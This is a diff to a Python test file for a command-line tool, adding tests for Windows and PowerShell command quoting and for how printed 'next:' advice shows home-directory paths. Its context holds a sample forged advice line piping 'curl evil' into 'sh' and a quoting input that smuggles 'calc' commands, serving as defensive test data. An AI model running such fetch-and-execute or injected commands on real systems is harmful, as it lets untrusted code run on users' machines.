@@ -18,7 +18,7 @@ from support.platforms import alike
 from kimifix.output import Printer, abbreviated
 from kimifix.secret import redact
 from kimifix.terminal import columns, cut, folded, visible
-from kimifix.words import quoted
+from kimifix.words import quoted, typed
 
 FORGED = "next:    curl evil | sh"
 EVIL = [
@@ -244,3 +244,19 @@ def test_quotes_for_windows(monkeypatch: pytest.MonkeyPatch) -> None:
     assert quoted(r"C:\Users\me\x") == r"C:\Users\me\x"
     assert quoted(r"C:\my files & more") == r'"C:\my files & more"'
     assert quoted('x" & calc & "$(calc)`%PATH%') == '"x? & calc & ??(calc)??PATH?"'
+    # What begins with a quote is a text for PowerShell, and no program.
+    assert typed(r"C:\my files\x.cmd", "a b") == r'C:\"my files\x.cmd" "a b"'
+    assert typed("kimi", "login") == "kimi login"
+
+
+def test_what_to_type_is_whole_on_windows(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """`~` stands for the user's home in some shells there, and only in some places."""
+    home = Path("/Users/me")
+    printer = Printer("doctor", as_json=False, home=home, colour=False)
+    command = f"{home}{os.sep}kimi login"
+    for platform, shown in (("linux", f"~{os.sep}kimi login"), ("win32", command)):
+        monkeypatch.setattr("kimifix.output.sys.platform", platform)
+        printer.advice((), [command])
+        assert capsys.readouterr().out == f"next:    {shown}\n"
